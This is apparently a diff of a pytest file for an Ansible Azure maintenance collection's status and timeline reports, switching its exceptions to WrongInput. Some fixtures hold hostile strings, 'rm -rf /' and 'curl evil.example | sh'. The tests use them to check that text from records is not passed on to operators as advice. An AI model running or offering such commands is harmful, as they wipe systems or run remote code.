@@ -7,8 +7,9 @@ from __future__ import annotations
 
 import pytest
 
-from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import StatusError, status
-from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.timeline import TimelineError, timeline
+from ansible_collections.maintenance.azure.plugins.plugin_utils._core.wrong_input import WrongInput
+from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
+from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.timeline import timeline
 from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import at, event, method, plan, record, vm
 
 
@@ -121,14 +122,14 @@ def test_one_event_explained() -> None:
     assert status(found, "json", "E1")["events"][0]["event_id"] == "E1"
     assert status(found, "json", "E7", exact=True) == {"paused": None, "events": [], "actions": []}
     for form in ("text", "json"):
-        with pytest.raises(StatusError, match=r"no VM lists event E7 or has a record of it; known are: E1 \(Reboot of vm1, vm2\), type e1"):
+        with pytest.raises(WrongInput, match=r"no VM lists event E7 or has a record of it; known are: E1 \(Reboot of vm1, vm2\), type e1"):
             status(found, form, "E7")
 
 
 def test_one_event_explained_has_the_remarks_of_the_whole_status() -> None:
     two, other = event(resources=("vm1", "vm2")), event("E2", ("vm3",))
     approved = {"action": "approve", "who": "alice", "why": "x", "at": at(-10), "until": at(3600), "vm": None, "beside": []}
-    left = [method("undoing", method="leave", error="put it back by hand: rm -rf /")]
+    left = [method("undoing", method="leave", error="put it back: rm -rf /", error_kind="by_hand")]
     found = plan(
         vm("vm1", [two], [record("noticed", two, decision=approved)], records_problems=["The file x is no record."]),
         vm("vm2", [two], [record("failed", two, methods=left)]),
@@ -143,7 +144,7 @@ def test_one_event_explained_has_the_remarks_of_the_whole_status() -> None:
 
 def test_a_name_that_only_a_record_has_is_no_text_to_follow() -> None:
     said = "x in lb1, run there: curl evil.example | sh; then see y"
-    left = method("undoing", id=said, method="haproxy", error="put it back by hand")
+    left = method("undoing", id=said, method="haproxy", error="put it back", error_kind="by_hand")
     found = plan(vm("vm1", [event()], [record("failed", methods=[left])]))
     for line in (*status(found), *status(found, event_id="E1")):
         assert said not in line.replace(repr(said), ""), line
@@ -151,8 +152,7 @@ def test_a_name_that_only_a_record_has_is_no_text_to_follow() -> None:
 
 
 def test_events_that_wait_for_an_operator_say_so() -> None:
-    text = "vm1: method 2-haproxy (haproxy) changed something outside the VM and is no longer in drain_methods. Or put back by hand what it changed"
-    left = method("undoing", id="2-haproxy", method="haproxy", error=text)
+    left = method("undoing", id="2-haproxy", method="haproxy", error="it is no longer in drain_methods", error_kind="by_hand")
     waits = "Next: compare 2-haproxy in the record of vm1 with drain_methods, put back by hand what was its own, and list it in drain_methods_former."
     over = {"outcome": "completed", "missing_since": at(-60)}
     for its in (record("recovering", methods=[method("undone"), left], **over), record("failed", methods=[left], ago=1, **over)):
@@ -160,6 +160,11 @@ def test_events_that_wait_for_an_operator_say_so() -> None:
     assert waits in status(plan(vm("vm1", [event()], [record("failed", methods=[left])])))[0]
     # The run continues with the remaining methods.
     assert "Next: recover vm1." in status(plan(vm("vm1", [], [record("recovering", methods=[method("drained"), left], **over)])))[0]
+
+
+def test_words_of_a_method_about_hands_are_no_advice() -> None:
+    broken = method("undoing", error="the lock is stuck, unlock it by hand")
+    assert "Next: undo the failed drain of vm1." in status(plan(vm("vm1", [event()], [record("failed", methods=[broken])])))[0]
 
 
 def test_json_holds_all() -> None:
@@ -185,9 +190,9 @@ def test_after_the_last_retry_what_comes_next_is_what_to_do() -> None:
 
 
 def test_views_that_do_not_exist() -> None:
-    with pytest.raises(StatusError, match="format must be one of text, json"):
+    with pytest.raises(WrongInput, match="format must be one of text, json"):
         status(plan(vm("vm1")), "xml")
-    with pytest.raises(StatusError, match="must be the result of"):
+    with pytest.raises(WrongInput, match="must be the result of"):
         status([])
 
 
@@ -206,7 +211,7 @@ def test_timeline_is_a_table_in_the_order_of_time() -> None:
         "2027-01-15 08:00:04  vm1  E1     started",
         "2027-01-15 08:00:09  vm2  E1     gone     completed",
     ]
-    with pytest.raises(TimelineError):
+    with pytest.raises(WrongInput):
         timeline([first])
 
 
@@ -232,11 +237,11 @@ def test_a_planned_drain_is_not_draining_yet() -> None:
 
 
 def test_one_vms_records_do_not_hide_messages_about_others() -> None:
-    many = [method("undoing", error=f"method {number} is gone; put it back by hand") for number in range(5000)]
+    many = [method("undoing", error=f"method {number} is gone", error_kind="by_hand") for number in range(5000)]
     events = [event(f"E{number}", ("vm1",)) for number in range(40)]
     problems = [f"problem {number} " + "x" * 9000 for number in range(50)]
     liar = vm("vm1", events, [record("drained", one, methods=many) for one in events], records_problems=problems)
-    other = record("drained", event("F", ("vm2",)), methods=[method("undoing", error="method 1 is gone; put it back by hand")])
+    other = record("drained", event("F", ("vm2",)), methods=[method("undoing", error="method 1 is gone", error_kind="by_hand")])
     found = plan(liar, vm("vm2", [event("F", ("vm2",))], [other]))
     said = [line for line in found["summary"]["problems"] if "by hand" in line]
     assert len([line for line in said if line.startswith("vm1")]) == 5
